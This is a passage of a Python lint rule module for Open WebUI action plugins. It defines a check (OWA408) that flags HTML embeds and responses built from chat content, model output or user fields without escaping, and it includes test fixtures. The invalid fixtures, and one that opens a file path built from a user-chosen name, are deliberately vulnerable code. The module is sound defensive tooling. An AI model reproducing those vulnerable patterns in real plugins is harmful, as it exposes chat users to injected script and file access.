                    summary = body["messages"][-1]["content"][:200]
                    # Reassigned between the two tests: they no longer agree.
                    valves = self.load_valves(body)
                    if valves.show_status:
                        await __event_emitter__({"type": "status", "data": {"description": "Done", "done": True}})
                    return {"messages": [{"id": body["id"], "content": summary}]}

                def load_valves(self, body):
                    return body.get("valves")
            """,
            lines=(11,),
            message="line 5",
        ),
        Invalid(
            """
            import asyncio

            class Action:
                async def _emit_status(self, emitter, description, done=False):
                    if emitter:
                        await emitter({"type": "status", "data": {"description": description, "done": done}})

                def _fetch_template(self, name):
                    with open(f"/srv/templates/{name}.md") as fh:
                        return fh.read()

                async def _handle_template(self, body, emitter):
                    await self._emit_status(emitter, "Loading template…", False)
                    name = body.get("template")
                    if not name:
                        return {"messages": [{"id": body["id"], "content": "No template chosen."}]}
                    try:
                        text = await asyncio.to_thread(self._fetch_template, name)
                    except OSError as e:
                        await self._emit_status(emitter, f"Failed: {e}", True)
                        return None
                    await self._emit_status(emitter, "Template loaded", True)
                    return {"messages": [{"id": body["id"], "content": text}]}

                async def action(self, body, __event_emitter__=None):
                    if body.get("template"):
                        return await self._handle_template(body, __event_emitter__)
                    return {"messages": [{"id": body["id"], "content": body["messages"][-1]["content"]}]}
            """,
            lines=(16,),
            message="which returns what `Action._handle_template` returns",
        ),
    ]


def _is_html_response(model: ActionModule, expr: cst.BaseExpression) -> bool:
    if not isinstance(expr, cst.Call):
        return False
    return any(
        n == "HTMLResponse" or n.endswith(".HTMLResponse") for n in model.resolve_name(expr.func)
    )


class TaintedHtmlEmbed(LintRule):
    """
    ## What it does
    Reports HTML shown to users (an `embeds` / `chat:message:embeds` event item, the
    content of an `HTMLResponse`, the first element of a returned `(html, headers)` tuple)
    built from `body`, model output, UserValves, `input` answers or `__user__` fields (low
    confidence) without `html.escape`, `markupsafe.escape`, `bleach.clean` (or `nh3.clean`).

    ## Why is this bad?
    Open WebUI renders these embeds as HTML in the chat (§5 of the action contract); with
    "allow same origin" enabled the iframe can reach the parent page. Chat messages are
    client-controlled and model output follows prompt injections, so pasting them into
    markup lets them add script and forms to the page (CWE-79). Converting Markdown to HTML
    (`markdown.markdown(text)`) does not escape raw HTML in the text.

    ## Example
    ```python
    html = f"<div class='summary'>{body['messages'][-1]['content']}</div>"
    return HTMLResponse(content=html, headers={"Content-Disposition": "inline"})
    ```

    ## Use instead
    ```python
    from html import escape

    from fastapi.responses import HTMLResponse

    class Action:
        async def action(self, body):
            html = f"<div class='summary'>{escape(body['messages'][-1]['content'])}</div>"
            return HTMLResponse(content=html, headers={"Content-Disposition": "inline"})
    ```
    """

    code = "OWA408"
    name = "tainted-html-embed"
    level = Level.WARNING
    security = True
    cwe = (79,)
    summary = "Untrusted text in HTML embedded in the chat, without escaping."

    def check(self) -> None:
        model = self.module
        for site in event_facts(model).sites:
            value = site_value(model, site)
            if (
                not isinstance(value, DictV)
                or const_str(value.items.get("type")) not in EMBED_EVENTS
            ):
                continue
            data = value.items.get("data")
            embeds = data.items.get("embeds") if isinstance(data, DictV) else None
            if embeds is None:
                continue
            self._sink(
                _taint_of_value(model, embeds, False), site.call, site.function, "this embed"
            )
        for qual in model.reachable:
            info = model.functions[qual]
            for call in model.own_of(info.node.body, cst.Call, lambdas=False):
                if not _is_html_response(model, call):
                    continue
                content = next(
                    (a.value for a in call.args if a.keyword and a.keyword.value == "content"),
                    next((a.value for a in call.args if a.keyword is None and not a.star), None),
                )
                if content is None:
                    continue
                taint = taint_engine(model, HTML_POLICY).taint(content, info)
                self._sink(taint, call, info, "this `HTMLResponse`")
        for ret in action_returns(model):
            assert ret.node.value is not None
            expr = unwrap_await(ret.node.value)
            if not isinstance(expr, cst.Tuple) or len(expr.elements) != 2:
                continue
            headers = Evaluator(model, ret.function, ret.env).value(
                expr.elements[1].value, ret.node
            )
            if not isinstance(headers, DictV) or not any(
                k.lower() in ("content-type", "content-disposition") for k in headers.items
            ):
                continue
            first = expr.elements[0].value
            taint = taint_engine(model, HTML_POLICY).taint(first, ret.function)
            self._sink(taint, ret.node, ret.function, "the returned HTML")

    def _sink(self, taint: Taint, node: cst.CSTNode, info: FunctionInfo, what: str) -> None:
        if not taint:
            return
        model = self.module
        self.report(
            None,
            f"{what} is built from {describe_taint(taint)} without escaping: Open WebUI renders "
            "it as HTML in the chat, so that text can inject markup and script (XSS); wrap "
            "values in `html.escape(...)` (or sanitise with `bleach.clean`)" + _suffix(model, info),
            location=model.statement_location(node),
            confidence=Confidence.LOW if is_low_confidence(taint) else None,
        )

    VALID = [
        Valid(
            """
            import html
            from fastapi.responses import HTMLResponse

            class Action:
                async def action(self, body, __user__=None):
                    items = "".join(f"<li>{html.escape(m['content'])}</li>" for m in body["messages"])
                    return HTMLResponse(content=f"<ul>{items}</ul>", headers={"Content-Disposition": "inline"})
            """
        ),
        Valid(
            """
            from markupsafe import escape

            class Action:
                async def action(self, body, __event_emitter__=None):
                    last = body["messages"][-1]["content"]
                    card = f"<div class='card'><p>{escape(last)}</p></div>"
                    await __event_emitter__({"type": "embeds", "data": {"embeds": [card]}})
            """
        ),
        Valid(
            """
            import bleach
            import markdown

            class Action:
                async def action(self, body):
                    rendered = bleach.clean(markdown.markdown(body["messages"][-1]["content"]))
                    return rendered, {"Content-Type": "text/html", "Content-Disposition": "inline"}
            """
        ),
        Valid(
            """
            class Action:
                async def action(self, body, __event_emitter__=None):
                    count = len(body["messages"])
                    chart = f"<svg width='200'><rect width='{count * 10}' height='20'/></svg>"
                    await __event_emitter__({"type": "embeds", "data": {"embeds": [chart]}})
            """
        ),
        Valid(
            """
            import html

            class Action:
                def _card(self, title, text):
                    return f"<h3>{html.escape(title)}</h3><p>{html.escape(text)}</p>"

                async def action(self, body, __event_emitter__=None):
                    embed = self._card("Summary", body["messages"][-1]["content"])
                    await __event_emitter__({"type": "chat:message:embeds", "data": {"embeds": [embed]}})
            """
        ),
    ]
    INVALID = [
        Invalid(
            """
            from fastapi.responses import HTMLResponse

            class Action:
                async def action(self, body, __user__=None):
                    items = "".join(f"<li>{m['content']}</li>" for m in body["messages"])
                    return HTMLResponse(content=f"<ul>{items}</ul>", headers={"Content-Disposition": "inline"})
            """,
            lines=(6,),
            message="`body` (client-controlled chat content)",
        ),
        Invalid(
            """
            import markdown

            class Action:
                async def action(self, body, __event_emitter__=None):
                    rendered = markdown.markdown(body["messages"][-1]["content"])
                    await __event_emitter__({"type": "embeds", "data": {"embeds": [rendered]}})
            """,
            lines=(6,),
        ),
        Invalid(
            """
            from open_webui.main import generate_chat_completion

            class Action:
                async def action(self, body, __user__=None, __request__=None):
                    result = await generate_chat_completion(__request__, {"model": body["model"], "messages": body["messages"]}, None)
                    answer = result["choices"][0]["message"]["content"]
                    page = "<html><body><article>" + answer + "</article></body></html>"
                    return page, {"Content-Type": "text/html", "Content-Disposition": "inline"}
            """,
            lines=(8,),
            message="model output",
        ),
        Invalid(
            """
            from fastapi.responses import HTMLResponse

            class Action:
                def _page(self, title):
                    return HTMLResponse(content="<h1>%s</h1>" % title, headers={"Content-Disposition": "inline"})

                async def action(self, body):
                    return self._page(body["messages"][0]["content"][:60])
            """,
            lines=(5,),
            message="reaches it through Action._page",
        ),
        Invalid(
            """
            class Action:
                async def action(self, body, __user__=None, __event_emitter__=None):
                    user = __user__ or {}
                    banner = "<p>Exported for {}</p>".format(user.get("name", "you"))
                    await __event_emitter__({"type": "chat:message:embeds", "data": {"embeds": [banner]}})
            """,
            lines=(5,),
            message="`__user__` fields",
        ),
    ]
